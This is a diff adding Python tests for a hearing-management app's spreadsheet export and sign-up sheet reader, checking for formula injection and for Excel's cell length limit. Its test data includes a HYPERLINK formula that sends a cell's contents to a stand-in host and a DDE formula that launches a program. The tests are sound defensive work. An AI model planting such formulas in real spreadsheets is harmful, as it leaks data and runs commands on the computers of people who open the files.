@@ -142,3 +142,73 @@ def test_a_replaced_file_keeps_its_mode_and_a_new_one_is_private(tmp_path):
     assert stat.S_IMODE(new.stat().st_mode) == 0o600
     assert stat.S_IMODE(new.parent.stat().st_mode) == 0o700
     assert stat.S_IMODE(new.parent.parent.stat().st_mode) == 0o700
+
+
+# ------------------------------------------------------------------ 2. spreadsheets
+
+FORMULAS = ['=HYPERLINK("http://example.invalid/?"&C3,"点此核对")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
+            "@SUM(A1:A9)"]
+
+
+def test_summary_text_is_never_a_formula(sample_hearing, tmp_path):
+    import zipfile
+
+    import openpyxl
+
+    from hearing_desk.domain import Role
+    from hearing_desk.export.summary_xlsx import write_summary_xlsx
+
+    h = sample_hearing
+    person = next(p for p in h.people if p.role is Role.PARTICIPANT and any(o.speaker == p.id for o in h.opinions))
+    person.name = FORMULAS[0]
+    person.description = FORMULAS[1]
+    opinion = next(o for o in h.opinions if o.speaker == person.id)
+    opinion.text, opinion.basis = FORMULAS[2], FORMULAS[3]
+    opinion.articles = [FORMULAS[4]]
+    out = tmp_path / "summary.xlsx"
+    write_summary_xlsx(h, out)
+    with zipfile.ZipFile(out) as z:
+        for name in z.namelist():
+            if name.startswith("xl/worksheets/"):
+                xml = z.read(name).decode()
+                assert "<f>" not in xml and "<f " not in xml, name
+    wb = openpyxl.load_workbook(out)
+    found = {}
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if isinstance(cell.value, str) and cell.value in FORMULAS:
+                    assert cell.data_type == "s", (cell.coordinate, cell.value)
+                    assert cell.quotePrefix, cell.coordinate
+                    found[cell.value] = cell.coordinate
+    assert set(found) == set(FORMULAS)
+
+
+def test_a_cell_over_excels_limit_is_cut_with_a_note_and_a_warning(sample_hearing, tmp_path):
+    import openpyxl
+
+    from hearing_desk.export import export_documents
+    from hearing_desk.export.summary_xlsx import CELL_LIMIT, CUT_NOTE
+
+    opinion = sample_hearing.opinions[0]
+    opinion.text = "意" * 40000 + "尾"
+    out = tmp_path / "summary.xlsx"
+    warnings = export_documents(sample_hearing, summary_xlsx=out)
+    assert any("32767" in w and "意见或建议" in w for w in warnings), warnings
+    ws = openpyxl.load_workbook(out).active
+    texts = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("意意")]
+    assert len(texts) == 1 and len(texts[0]) <= CELL_LIMIT and texts[0].endswith(CUT_NOTE)
+
+
+def test_signup_sheet_warns_of_formula_date_and_number_names():
+    from hearing_desk.formats.signup import read_signup
+
+    sheet = read_signup(HOSTILE / "signup-formulas.xlsx")
+    told = {r.row: r.problem_text() for r in sheet.rows}
+    for row in (2, 3, 4, 5):
+        assert f"第 {row} 行 B 列" in told[row] and "公式" in told[row], told[row]
+    assert "日期" in told[7] and "第 7 行 B 列" in told[7]
+    assert "数字" in told[8]
+    assert "日期" in told[9]
+    assert told[6] == ""                        # 王五 is a name
+    assert all(r.ok for r in sheet.rows if r.row != 7 or r.name)   # warnings, not errors
